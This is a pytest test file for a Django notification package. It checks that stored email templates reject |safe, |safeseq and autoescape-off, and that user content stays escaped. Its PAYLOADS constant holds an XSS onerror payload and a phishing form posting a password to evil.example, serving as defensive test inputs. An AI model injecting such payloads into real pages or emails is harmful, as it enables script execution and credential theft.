"""Stored templates never output raw HTML: ``|safe``, ``|safeseq`` and ``{% autoescape off %}`` are refused.

The admin form refuses them with a clear message, a system check warns about rows saved with them
before (or behind the admin's back), and rendering such a row ends its delivery dead with the
reason, so user content (``<img onerror>``, ``<form action=…>``) never reaches an email unescaped.
"""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.checks import Warning, run_checks
from django.core.exceptions import ValidationError
from django.dispatch import Signal
from django.utils.safestring import mark_safe

from django_signal_notifier import register_signal
from django_signal_notifier.models import Delivery, DeliveryStatus, StoredTemplate
from tests.support.factories import subscribe
from tests.testapp.models import Article

pytestmark = pytest.mark.django_db

PAYLOADS = ('"><img src=x onerror=alert(1)>', '<form action="https://evil.example/login"><input name=pw></form>')
RAW = {
    "safe": ("{{ instance.title|safe }}", "|safe"),
    "safeseq": ("{{ instance.title|make_list|safeseq|join:'' }}", "|safeseq"),
    "autoescape off": ("{% autoescape off %}{{ instance.title }}{% endautoescape %}", "{% autoescape off %}"),
    "filter safe in a block": ("{% filter lower|safe %}{{ instance.title }}{% endfilter %}", "|safe"),
}
marked_signal = register_signal("custom_marked", Signal())
# Filters that keep escaping what they are given stay available.
ESCAPING = "{{ instance.title|urlize }}{{ instance.title|linebreaks }}{{ instance.title|linebreaksbr }}" + (
    "{{ instance.title|striptags }}{{ instance.title|make_list|unordered_list }}{{ instance.title|urlizetrunc:5 }}"
)


@pytest.fixture
def reader(settings: Any) -> Any:
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    return get_user_model().objects.create_user("reader", "reader@example.org", "pw")


@pytest.mark.parametrize("name", sorted(RAW))
def test_the_admin_form_refuses_raw_html(name: str) -> None:
    source, named = RAW[name]
    with pytest.raises(ValidationError) as caught:
        StoredTemplate(name="raw", subject="s", html=f"<p>ok</p>\n{source}").full_clean()
    [message] = caught.value.message_dict["html"]
    assert message.startswith("Line 2: ") and named in message and "raw HTML" in message, message


@pytest.mark.parametrize("name", sorted(RAW))
def test_a_row_saved_with_raw_html_sends_nothing_unescaped(name, reader, run_on_commit):
    source, named = RAW[name]
    StoredTemplate.objects.create(name="raw", subject="s", text="t", html=f"<p>{source}</p>")  # behind the form
    subscribe("post_save", Article, users=[reader], messenger="EmailMessenger", template="db:raw")
    with run_on_commit():
        for payload in PAYLOADS:
            Article.objects.create(title=payload)
    for message in mail.outbox:
        html = "".join(str(part[0]) for part in getattr(message, "alternatives", []))
        assert not [p for p in PAYLOADS if p in html]
    deliveries = list(Delivery.objects.all())
    assert len(deliveries) == 2
    for delivery in deliveries:
        assert delivery.status == DeliveryStatus.DEAD
        assert delivery.last_error.startswith("template error:") and named in delivery.last_error


def test_escaping_filters_stay_available_and_escape(reader, run_on_commit):
    record = StoredTemplate(name="esc", subject="s", text="t", html=ESCAPING)
    record.full_clean()
    record.save()
    subscribe("post_save", Article, users=[reader], messenger="EmailMessenger", template="db:esc")
    with run_on_commit():
        for payload in PAYLOADS:
            Article.objects.create(title=payload)
    assert len(mail.outbox) == 2
    for message in mail.outbox:
        [(html, _)] = message.alternatives
        assert "&lt;" in html
        assert not [p for p in PAYLOADS if p in html], html
        assert "<img" not in html and "<form" not in html


def test_a_system_check_warns_about_rows_with_raw_html() -> None:
    StoredTemplate.objects.create(name="raw", subject="s", html="{{ instance.title|safe }}")
    StoredTemplate.objects.create(name="fine", subject="s", html="{{ instance.title }}")
    found = [m for m in run_checks(databases=["default"]) if isinstance(m.obj, StoredTemplate)]
    assert len(found) == 1, found
    [warning] = found
    assert isinstance(warning, Warning) and not warning.is_serious()
    assert "raw" in warning.msg and "|safe" in warning.msg


def test_text_marked_safe_in_code_is_still_escaped(reader, run_on_commit):
    """A field, a ``__str__`` or a signal kwarg holding ``mark_safe`` text is plain text to a stored template."""
    record = StoredTemplate(name="marked", subject="s", text="t", html="{{ instance.title }}|{{ instance }}|{{ note }}")
    record.full_clean()
    record.save()
    subscribe("custom_marked", None, users=[reader], messenger="EmailMessenger", template="db:marked")
    with run_on_commit():
        article = Article(title=mark_safe(PAYLOADS[0]))
        marked_signal.send(sender=Article, instance=article, note=mark_safe(PAYLOADS[1]))
    [message] = mail.outbox
    [(html, _)] = message.alternatives
    assert not [p for p in PAYLOADS if p in html], html
    assert "&lt;img" in html and "&lt;form" in html
